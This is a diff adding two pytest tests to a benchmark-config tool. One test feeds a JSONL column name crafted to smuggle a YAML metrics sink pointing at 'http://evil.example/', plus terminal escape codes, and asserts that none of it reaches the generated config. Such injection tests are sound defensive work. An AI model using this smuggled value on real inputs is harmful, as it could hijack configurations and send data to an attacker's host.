@@ -171,3 +171,21 @@ def test_the_file_for_a_job_on_kafka_is_valid_and_names_its_command(tmp_path: Pa
     assert isinstance(system, JobSettings)
     assert "{input}" in system.command
     assert (system.progress.checkpoint is None) == (job != "spark")
+
+
+def test_names_of_a_file_of_somebody_else_become_no_keys(tmp_path: Path) -> None:
+    evil = "zzz\nmetrics: {sinks: [{type: http, url: 'http://evil.example/'}]}\rdescription: x\u2028name: y"
+    rows = [json.dumps({"time": 1_700_000_000_000 + n, evil: 1_700_000_000_000 + n, "ü": "\x1b[2J"}) for n in range(50)]
+    (tmp_path / "mine.jsonl").write_text("\n".join(rows))
+    told = run(Call(["init", str(tmp_path / "mine.jsonl"), "--out", str(tmp_path / "b.yaml")]))
+    assert told.code == 0, told.err
+    assert "\x1b" not in told.out
+    written = yaml.safe_load((tmp_path / "b.yaml").read_text())
+    assert set(written) == {"name", "source", "experiments", "workloads", "systems", "search"}
+    assert load(tmp_path / "b.yaml").metrics is None
+
+
+def test_the_name_of_a_benchmark_does_not_end_as_those_of_its_nights(tmp_path: Path) -> None:
+    (tmp_path / "data-nightly.csv").write_text("time,a\n" + "".join(f"2026-03-01T00:00:{n:02}Z,1\n" for n in range(20)))
+    assert run(Call(["init", str(tmp_path / "data-nightly.csv"), "--out", str(tmp_path / "b.yaml")])).code == 0
+    assert load(tmp_path / "b.yaml").name == "data-nightly_"
